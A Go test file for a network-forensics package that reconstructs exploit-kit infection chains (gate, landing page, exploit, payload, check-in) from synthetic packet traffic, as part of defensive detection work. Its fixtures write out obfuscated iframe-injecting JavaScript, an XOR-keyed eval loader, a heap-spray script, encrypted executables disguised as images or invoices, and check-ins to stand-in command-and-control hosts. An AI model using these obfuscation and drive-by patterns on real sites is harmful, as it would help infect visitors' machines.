package replay_test

import (
	"crypto/rc4"
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"kagami/evidence/replay"
	"kagami/sensor"
)

// fetched is a request on a connection of its own, from packets.
type fetched struct {
	at      float64 // seconds
	url     string  // method in front, "" = GET
	referer string
	agent   string   // "" = browser
	fields  []string // of the answer; no Content-Length means that chunks are sent
	status  string   // "" = 200 OK
	body    string
	sends   string // body of the request
}

// frames are the packets of all that a client fetched, each host at its own address.
func (f fetched) frames(i int) []sensor.Frame {
	tr := newTraffic()
	tr.now = start + int64(f.at*1e9)
	method, rest, ok := strings.Cut(f.url, " ")
	if !ok {
		method, rest = "GET", f.url
	}
	host, path, _ := strings.Cut(strings.TrimPrefix(rest, "http://"), "/")
	at := serverOf(host)
	if a, err := netip.ParseAddr(host); err == nil {
		at = netip.AddrPortFrom(a, 80)
	}
	agent := f.agent
	if agent == "" {
		agent = browser
	}
	c := tr.conn(fmt.Sprintf("10.0.0.2:%d", 41000+i), at.String()).open()
	ask := fmt.Sprintf("%s /%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\n", method, path, host, agent)
	if f.referer != "" {
		ask += "Referer: " + f.referer + "\r\n"
	}
	if f.sends != "" {
		ask += fmt.Sprintf("Content-Length: %d\r\n", len(f.sends))
	}
	c.send(client, ask+"\r\n"+f.sends)
	status := f.status
	if status == "" {
		status = "200 OK"
	}
	head := "HTTP/1.1 " + status + "\r\n" + strings.Join(append(slices.Clone(f.fields), ""), "\r\n")
	if strings.Contains(head, "Content-Length") {
		c.send(server, head+"\r\n"+f.body)
	} else {
		c.send(server, head+"Transfer-Encoding: chunked\r\n\r\n"+chunked(f.body, 1000))
	}
	c.close()
	return tr.frames
}

// attack is the chain of what was fetched: a line of each with its cause and its role.
func attack(t *testing.T, all []fetched) string {
	t.Helper()
	var frames []sensor.Frame
	for i, f := range all {
		frames = append(frames, f.frames(i)...)
	}
	slices.SortStableFunc(frames, func(a, b sensor.Frame) int { return int(a.Time - b.Time) })
	r := read(t, frames, replay.Options{})
	c := replay.Build(r)
	check(t, r, c)
	var b strings.Builder
	for i, n := range c.Nodes {
		fmt.Fprintf(&b, "%d", i)
		if n.Parent != nil {
			fmt.Fprintf(&b, " of %d by %s", n.Parent.Transaction.Number, n.In[0].Kind)
		}
		if n.Role != "" {
			fmt.Fprintf(&b, " %s", n.Role)
		}
		b.WriteByte('\n')
	}
	return b.String()
}

// noise are octets without order, as encryption makes them.
func noise(n int) string {
	r := rand.New(rand.NewPCG(7, 7))
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return string(b)
}

// program is one with a header and n octets behind it.
func program(n int) string {
	return peBody() + strings.Repeat("This is a program's code. ", n/26)
}

func masked(s, key string) string {
	b := []byte(s)
	for i := range b {
		b[i] ^= key[i%len(key)]
	}
	return string(b)
}

func ciphered(s, key string) string {
	b := []byte(s)
	must(rc4.NewCipher([]byte(key))).XORKeyStream(b, b)
	return string(b)
}

func codes(s string) string {
	var all []string
	for _, c := range []byte(s) {
		all = append(all, fmt.Sprint(c))
	}
	return strings.Join(all, ",")
}

const (
	html  = "Content-Type: text/html"
	flash = "Content-Type: application/x-shockwave-flash"
	octet = "Content-Type: application/octet-stream"
)

// TestKits are attacks in the manner of exploit kits, from packets to roles. Hosts and
// contents are made up.
func TestKits(t *testing.T) {
	const site, gate, land = "http://www.shop.example/", "http://gate.example/", "http://kit.example/"
	script := func(s string) string { return "<html><body><p>text<script>" + s + "</script></body></html>" }
	for _, c := range []struct {
		name string
		all  []fetched
		want string
	}{
		{"a frame by fromCharCode, a landing page by atob, a program under RC4, a check-in with the browser's name", []fetched{
			{url: site, fields: []string{html}, body: script("document.write(String.fromCharCode(" + codes("<iframe src='"+gate+"x?i=1' width=1></iframe>") + "))")},
			{at: 1, url: gate + "x?i=1", referer: site, status: "302 Found", fields: []string{"Location: " + land + "?q=wX"}, body: "moved"},
			{at: 1.5, url: land + "?q=wX", referer: site, fields: []string{html}, body: script("eval(atob('" + base64.StdEncoding.EncodeToString([]byte("document.write('<embed src=\"/f?z=2\">')")) + "'))")},
			{at: 2, url: land + "f?z=2", referer: land + "?q=wX", fields: []string{flash}, body: swfBody},
			{at: 4, url: land + "p?z=3", fields: []string{"Content-Type: application/x-msdownload"}, body: ciphered(program(90_000), "gexykukusw")},
			{at: 30, url: "POST http://203.0.113.9/c.php", sends: "id=1", fields: []string{html}, body: "ok"},
		}, `0
			1 of 0 by js-write gate
			2 of 1 by location landing
			3 of 2 by js-write exploit
			4 of 3 by time-after-exploit payload
			5 of 4 by time-after-payload check-in`},
		{"302 after 302, relative; the last one to another host", []fetched{
			{url: site, fields: []string{html}, body: `<iframe src="//gate.example/a/1">`},
			{at: 1, url: gate + "a/1", referer: site, status: "302 Found", fields: []string{"Location: ../b/2?x=1"}},
			{at: 1.2, url: gate + "b/2?x=1", referer: site, status: "303 See Other", fields: []string{"Location: ?x=2"}},
			{at: 1.4, url: gate + "b/2?x=2", referer: site, status: "307 Temporary Redirect", fields: []string{"location:\thttp:\\\\kit.example/v"}},
			{at: 1.6, url: land + "v", referer: site, fields: []string{html}, body: `<object data='e.swf'></object>`},
			{at: 2, url: land + "e.swf", referer: land + "v", fields: []string{flash}, body: swfBody},
			{at: 5, url: land + "get", agent: "Mozilla/4.0", fields: []string{octet}, body: program(20_000)},
		}, `0
			1 of 0 by iframe gate
			2 of 1 by location gate
			3 of 2 by location gate
			4 of 3 by location landing
			5 of 4 by object exploit
			6 of 5 by time-after-exploit payload`},
		{"meta refresh with quotes, a frame that a script builds, a program under XOR that says it is a picture", []fetched{
			{url: site, fields: []string{html}, body: `<META content="0 ; URL='http://gate.example/m?a=1&amp;b=2'" HTTP-EQUIV = "Refresh">`},
			{at: 1, url: gate + "m?a=1&b=2", referer: site, fields: []string{html}, body: script(`var f=document["create"+"Element"]("ifr"+"ame");f.src="ht"+"tp://kit."+["elpmaxe"][0].split("").reverse().join("")+"/l";document.body.appendChild(f)`)},
			{at: 2, url: land + "l", referer: gate + "m?a=1&b=2", fields: []string{html}, body: script("var a=unescape('%3Capplet%20archive%3D%22j.jar%22%20code%3D%22a%22%3E');document.write(a)")},
			{at: 3, url: land + "j.jar", agent: plugin, fields: []string{"Content-Type: application/java-archive"}, body: jarBody},
			{at: 4, url: land + "i.png", agent: plugin, fields: []string{"Content-Type: image/png"}, body: masked(program(40_000), "q8Zt")},
			{at: 9, url: "http://198.51.100.7/gate", agent: "bot", fields: []string{html}, body: "1"},
		}, `0
			1 of 0 by meta-refresh gate
			2 of 1 by js-literal landing
			3 of 2 by js-write exploit
			4 of 3 by time-after-exploit payload
			5 of 4 by user-agent-change check-in`},
		{"nothing but HTML, bound to its redirection by a key", []fetched{
			{url: "http://203.0.113.5/i", status: "302 Found", fields: []string{"Location: /i?kEyOfIt"}},
			{at: 1, url: "http://203.0.113.5/i?kEyOfIt", fields: []string{html}, body: script("var d='" + hexed(masked(sprayed(), "kEyOfIt")) + "',k=location.search.substring(1);for(i=0;i<d.length;i+=2)s+=String.fromCharCode(parseInt(d.substring(i,i+2),16)^k.charCodeAt(i/2%k.length));eval(s)")},
			{at: 2, url: "http://203.0.113.5/next", fields: []string{html}, body: "<p>text"},
		}, `0 gate
			1 of 0 by location exploit
			2`},
		{"a download that its head names", []fetched{
			{url: site, fields: []string{html}, body: script(`setTimeout("location.href='` + gate + `dl?id=7'",10)`)},
			{at: 1, url: gate + "dl?id=7", referer: site, fields: []string{"Content-Type: text/plain", `Content-Disposition: attachment; filename="invoice.pdf.exe"`}, body: program(20_000)},
			{at: 8, url: "POST http://c2.example/in", agent: "svc", sends: "x", fields: []string{html}, body: "ok"},
		}, `0 landing
			1 of 0 by js-literal payload
			2 of 1 by user-agent-change check-in`},
		{"the same, but what a user clicks", []fetched{
			{url: site, fields: []string{html}, body: `<a href="/setup.exe">Download</a>`},
			{at: 9, url: site + "setup.exe", referer: site, fields: []string{octet, `Content-Disposition: attachment; filename="setup.exe"`}, body: program(20_000)},
		}, `0
			1 of 0 by a`},
		{"much that is encrypted and no attack", []fetched{
			{url: site, fields: []string{html}, body: `<script src=/a.js></script>`},
			{at: 1, url: site + "a.js", referer: site, fields: []string{"Content-Type: text/javascript"}, body: `fetch("/blob.bin")`},
			{at: 2, url: site + "blob.bin", referer: site, fields: []string{octet}, body: noise(80_000)},
			{at: 3, url: "POST http://203.0.113.9/metrics", sends: "id=1", fields: []string{html}, body: "ok"},
		}, `0
			1 of 0 by script
			2 of 1 by js-literal
			3`},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got, want := attack(t, c.all), trim(c.want); got != want {
				t.Errorf("got:\n%swant:\n%s", got, want)
			}
		})
	}
}

func hexed(s string) string { return fmt.Sprintf("%x", s) }

// sprayed is a script as exploits of browsers have it; what looks like machine code is noise.
func sprayed() string {
	var b strings.Builder
	for i, c := range []byte(noise(400)) {
		if i%2 == 0 {
			b.WriteString("%u")
		}
		fmt.Fprintf(&b, "%02x", c)
	}
	return "var c=unescape('" + b.String() + "');var f=unescape('%u0c0c%u0c0c');while(f.length<0x40000)f+=f;"
}

// TestMasked: programs under XOR are told by their headers, and nothing else is.
func TestMasked(t *testing.T) {
	for key, want := range map[string]replay.ContentKind{
		"k": replay.ContentProgram, "\xff": replay.ContentProgram, "8charKey": replay.ContentProgram, "sixteen-octet-ky": replay.ContentProgram, "seventeen-octet-k": replay.ContentPlain,
	} {
		r := reading(visit{request: "GET http://a.example/", body: masked(program(9000), key), magic: "application/octet-stream"})
		if got := replay.Build(r).Nodes[0].Content; got.Kind != want {
			t.Errorf("key %q: got %+v", key, got)
		}
	}
	for _, body := range []string{strings.Repeat("k", 5000), strings.Repeat("abcd", 2000), noise(5000), strings.Repeat("\x00", 5000)} {
		r := reading(visit{request: "GET http://a.example/", body: body, magic: "application/octet-stream"})
		if got := replay.Build(r).Nodes[0].Content; got.Kind == replay.ContentProgram {
			t.Errorf("%.8q: got %+v", body, got)
		}
	}
}
